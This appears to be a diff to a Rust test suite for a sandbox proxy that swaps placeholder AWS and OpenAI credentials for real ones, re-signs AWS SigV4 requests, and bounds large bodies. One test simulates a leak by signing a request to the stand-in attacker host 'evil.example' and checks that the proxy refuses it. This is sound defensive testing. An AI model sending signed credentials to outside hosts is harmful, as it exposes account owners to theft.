@@ -57,6 +57,7 @@ async fn upstream() -> Upstream {
         "login.microsoftonline.com".to_owned(),
         "evil.example".to_owned(),
         "sts.amazonaws.com".to_owned(),
+        "s3.amazonaws.com".to_owned(),
     ])
     .unwrap();
     let cert = params.signed_by(&key, &issuer).unwrap();
@@ -99,7 +100,12 @@ async fn upstream() -> Upstream {
                         let mut resp = Response::new(Full::new(Bytes::from(text)));
                         if let Some(a) = parts.headers.get("authorization") {
                             resp.headers_mut().insert("x-echo-authorization", a.clone());
+                            if a.as_bytes().starts_with(b"AWS4-HMAC-SHA256") {
+                                let verdict = verify_sigv4(&parts, &body);
+                                resp.headers_mut().insert("x-sigv4", verdict.parse().unwrap());
+                            }
                         }
+                        resp.headers_mut().insert("x-body-length", body.len().into());
                         Ok::<_, std::convert::Infallible>(resp)
                     }
                 });
@@ -118,9 +124,125 @@ struct Fixture {
     usage: Arc<UsageQueue>,
 }
 
+const AWS_KEY_P: &str = "AKIAPLACEHOLDER00001";
+const AWS_KEY_R: &str = "AKIAREALKEYID0000002";
+const AWS_SECRET_R: &str = "realSecretAccessKey/abcdefghijklmnopqrst";
+const AWS_TOKEN_P: &str = "IQoJPLACEHOLDERtoken000000000000000000000";
+const AWS_TOKEN_R: &str = "IQoJREALSESSIONtoken111111111111111111111";
+
+/// An independent check of a SigV4 signature against the REAL keys (canonical request built
+/// here; only the HMAC chain comes from aws-sigv4): "ok", or what is wrong.
+fn verify_sigv4(parts: &http::request::Parts, body: &[u8]) -> String {
+    use sha2::Digest;
+    let auth = parts.headers["authorization"].to_str().unwrap();
+    let field = |k: &str| {
+        auth.split([' ', ',']).find_map(|p| p.strip_prefix(&format!("{k}="))).unwrap().to_owned()
+    };
+    let (cred, signed, sig) = (field("Credential"), field("SignedHeaders"), field("Signature"));
+    let scope: Vec<&str> = cred.split('/').collect();
+    if scope[0] != AWS_KEY_R {
+        return format!("bad-key-id-{}", scope[0]);
+    }
+    let amz_date = parts.headers["x-amz-date"].to_str().unwrap();
+    let mut query: Vec<&str> =
+        parts.uri.query().unwrap_or("").split('&').filter(|q| !q.is_empty()).collect();
+    query.sort();
+    let mut canon_headers = String::new();
+    for name in signed.split(';') {
+        let value = if name == "host" {
+            parts
+                .headers
+                .get("host")
+                .map(|h| h.to_str().unwrap().to_owned())
+                .unwrap_or_else(|| parts.uri.authority().unwrap().to_string())
+        } else {
+            let v: Vec<&str> =
+                parts.headers.get_all(name).iter().map(|v| v.to_str().unwrap().trim()).collect();
+            v.join(",")
+        };
+        canon_headers.push_str(&format!("{name}:{value}\n"));
+    }
+    let payload = match parts.headers.get("x-amz-content-sha256") {
+        Some(h) => h.to_str().unwrap().to_owned(),
+        None => hex::encode(sha2::Sha256::digest(body)),
+    };
+    let creq = format!(
+        "{}\n{}\n{}\n{canon_headers}\n{signed}\n{payload}",
+        parts.method,
+        parts.uri.path(),
+        query.join("&")
+    );
+    let sts = format!(
+        "AWS4-HMAC-SHA256\n{amz_date}\n{}/{}/{}/aws4_request\n{}",
+        scope[1],
+        scope[2],
+        scope[3],
+        hex::encode(sha2::Sha256::digest(creq.as_bytes()))
+    );
+    let time = super::sigv4::parse_amz_date(amz_date).unwrap();
+    let key = aws_sigv4::sign::v4::generate_signing_key(AWS_SECRET_R, time, scope[2], scope[3]);
+    if aws_sigv4::sign::v4::calculate_signature(key, sts.as_bytes()) == sig {
+        "ok".into()
+    } else {
+        "bad-signature".into()
+    }
+}
+
+/// Signs a request the way an AWS SDK in the sandbox would: with the placeholder key id, a
+/// made-up secret key and the placeholder session token.
+fn client_sign(
+    method: &str,
+    url: &str,
+    headers: &[(&str, &str)],
+    body: aws_sigv4::http_request::SignableBody<'_>,
+    service: &str,
+) -> Vec<(String, String)> {
+    use aws_sigv4::http_request::{SignableRequest, SigningSettings, sign};
+    let identity = aws_credential_types::Credentials::new(
+        AWS_KEY_P,
+        "sandbox-only-fake-secret",
+        Some(AWS_TOKEN_P.to_owned()),
+        None,
+        "test",
+    )
+    .into();
+    let mut settings = SigningSettings::default();
+    if service == "s3" {
+        settings.percent_encoding_mode = aws_sigv4::http_request::PercentEncodingMode::Single;
+        settings.uri_path_normalization_mode =
+            aws_sigv4::http_request::UriPathNormalizationMode::Disabled;
+    }
+    let params = aws_sigv4::sign::v4::SigningParams::builder()
+        .identity(&identity)
+        .region("us-east-1")
+        .name(service)
+        .time(std::time::SystemTime::now())
+        .settings(settings)
+        .build()
+        .unwrap()
+        .into();
+    let req = SignableRequest::new(method, url, headers.iter().copied(), body).unwrap();
+    let (instructions, _) = sign(req, &params).unwrap().into_parts();
+    instructions.headers().map(|(k, v)| (k.to_owned(), v.to_owned())).collect()
+}
+
 fn secrets() -> SealedSet {
     SealedSet {
         secrets: vec![
+            SealedSecret {
+                name: "AWS".into(),
+                hosts: vec!["*.amazonaws.com".into()],
+                swaps: vec![Swap {
+                    placeholder: AWS_TOKEN_P.into(),
+                    real: SecretValue::from(AWS_TOKEN_R),
+                }],
+                sigv4: Some(SigV4Keys {
+                    placeholder_key_id: AWS_KEY_P.into(),
+                    key_id: SecretValue::from(AWS_KEY_R),
+                    secret_key: SecretValue::from(AWS_SECRET_R),
+                    session_token: Some(SecretValue::from(AWS_TOKEN_R)),
+                }),
+            },
             SealedSecret {
                 name: "OPENAI".into(),
                 hosts: vec!["api.openai.com".into()],
@@ -360,4 +482,149 @@ async fn oversized_headers_and_connection_floods_are_bounded() {
     assert!(String::from_utf8_lossy(&out).starts_with("HTTP/1.1 503"));
     drop(held);
     assert_eq!(f.up.seen.count(), 0);
+}
+
+#[tokio::test]
+async fn aws_requests_signed_with_the_placeholder_key_are_re_signed_with_the_real_keys() {
+    let f = fixture().await;
+    let c = client(&f);
+    // STS: no x-amz-content-sha256, a small form body the proxy hashes.
+    let body = "Action=GetCallerIdentity&Version=2011-06-15";
+    let ct = "application/x-www-form-urlencoded; charset=utf-8";
+    let signed = client_sign(
+        "POST",
+        "https://sts.amazonaws.com/",
+        &[("host", "sts.amazonaws.com"), ("content-type", ct)],
+        aws_sigv4::http_request::SignableBody::Bytes(body.as_bytes()),
+        "sts",
+    );
+    let mut req = c.post("https://sts.amazonaws.com/").header("content-type", ct).body(body);
+    for (k, v) in &signed {
+        req = req.header(k, v);
+    }
+    let resp = req.send().await.unwrap();
+    assert_eq!(resp.headers()["x-sigv4"], "ok");
+    let text = resp.text().await.unwrap();
+    let seen = f.up.seen.all();
+    assert!(seen.contains(&format!("x-amz-security-token: {AWS_TOKEN_R}")), "{seen}");
+    assert!(!seen.contains(AWS_KEY_P) && !seen.contains(AWS_TOKEN_P), "{seen}");
+    // The echo shows the client placeholders only.
+    assert!(!text.contains(AWS_KEY_R) && !text.contains(AWS_TOKEN_R), "{text}");
+    assert!(text.contains(AWS_TOKEN_P), "{text}");
+
+    // S3: UNSIGNED-PAYLOAD, a 3 MiB body streamed (not buffered), a path with an escape.
+    let big = vec![b'x'; 3 * 1024 * 1024];
+    let url = "https://s3.amazonaws.com/bucket/a%20key";
+    let signed = client_sign(
+        "PUT",
+        url,
+        &[("host", "s3.amazonaws.com"), ("x-amz-content-sha256", "UNSIGNED-PAYLOAD")],
+        aws_sigv4::http_request::SignableBody::UnsignedPayload,
+        "s3",
+    );
+    let mut req = c.put(url).header("x-amz-content-sha256", "UNSIGNED-PAYLOAD").body(big);
+    for (k, v) in &signed {
+        req = req.header(k, v);
+    }
+    let resp = req.send().await.unwrap();
+    assert_eq!(resp.headers()["x-sigv4"], "ok");
+    assert_eq!(resp.headers()["x-body-length"], (3 * 1024 * 1024).to_string().as_str());
+
+    // Chunk-signed uploads are refused with a reason; so are pre-signed URLs.
+    let signed = client_sign(
+        "PUT",
+        url,
+        &[
+            ("host", "s3.amazonaws.com"),
+            ("x-amz-content-sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"),
+        ],
+        aws_sigv4::http_request::SignableBody::Precomputed(
+            "STREAMING-AWS4-HMAC-SHA256-PAYLOAD".into(),
+        ),
+        "s3",
+    );
+    let mut req =
+        c.put(url).header("x-amz-content-sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD").body("x");
+    for (k, v) in &signed {
+        req = req.header(k, v);
+    }
+    let resp = req.send().await.unwrap();
+    assert_eq!(resp.status(), 400);
+    assert!(resp.text().await.unwrap().contains("chunk-signed"));
+    let resp = c
+        .get(format!("https://s3.amazonaws.com/bucket/k?X-Amz-Credential={AWS_KEY_P}%2F20260101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=00"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 400);
+    assert!(resp.text().await.unwrap().contains("pre-signed"));
+    // A request signed with the placeholder key towards another host: a leak.
+    let signed = client_sign(
+        "GET",
+        "https://evil.example/",
+        &[("host", "evil.example")],
+        aws_sigv4::http_request::SignableBody::empty(),
+        "sts",
+    );
+    let mut req = c.get("https://evil.example/");
+    for (k, v) in &signed {
+        req = req.header(k, v);
+    }
+    assert_eq!(req.send().await.unwrap().status(), 403);
+    let seen = f.up.seen.all();
+    assert!(!seen.contains(AWS_KEY_R) || !seen.contains("evil.example /"), "{seen}");
+    let used = records(&f, UsageAction::Substituted);
+    assert!(
+        used.iter().any(|u| u.detail.as_deref() == Some("PUT s3.amazonaws.com/bucket/a%20key")),
+        "{used:?}"
+    );
+}
+
+#[tokio::test]
+async fn a_use_that_cannot_be_recorded_is_refused() {
+    let up = upstream().await;
+    let usage = UsageQueue::new(1);
+    let mut config = ProxyConfig::new(vec![0, nix::unistd::geteuid().as_raw()], usage.clone());
+    config.test_only_upstreams = vec![("api.openai.com".into(), up.addr)];
+    config.test_only_upstream_ca = Some(up.ca_pem.clone());
+    let proxy = Proxy::start(config).unwrap();
+    proxy.set(secrets()).unwrap();
+    // Fill the queue's only slot.
+    usage
+        .push(super::audit::report(
+            &crate::dispatch::Peer::identify(0, None),
+            UsageAction::Injected,
+            None,
+            "x".into(),
+        ))
+        .unwrap();
+    let f = Fixture { up, proxy, usage };
+    let r = client(&f).get("https://api.openai.com/v1").bearer_auth(OPENAI_P).send().await.unwrap();
+    assert_eq!(r.status(), 503);
+    assert!(r.text().await.unwrap().contains("cannot be recorded"));
+    assert_eq!(f.up.seen.count(), 0);
+}
+
+#[tokio::test]
+async fn a_big_json_body_streams_through_the_replacer() {
+    let f = fixture().await;
+    let c = client(&f);
+    // Over the 1 MiB buffer limit, with the placeholder past it.
+    let mut body = format!("{{\"pad\":\"{}\",\"key\":\"", "p".repeat(1024 * 1024 + 7));
+    body.push_str(OPENAI_P);
+    body.push_str("\"}");
+    let len = body.len() - OPENAI_P.len() + OPENAI_R.len();
+    let r = c
+        .post("https://api.openai.com/v1/files")
+        .header("content-type", "application/json")
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    assert_eq!(r.headers()["x-body-length"], len.to_string().as_str());
+    let text = r.text().await.unwrap();
+    assert!(text.contains(OPENAI_P) && !text.contains(OPENAI_R));
+    assert!(f.up.seen.all().contains(OPENAI_R));
+    assert_eq!(records(&f, UsageAction::Substituted).len(), 1);
 }
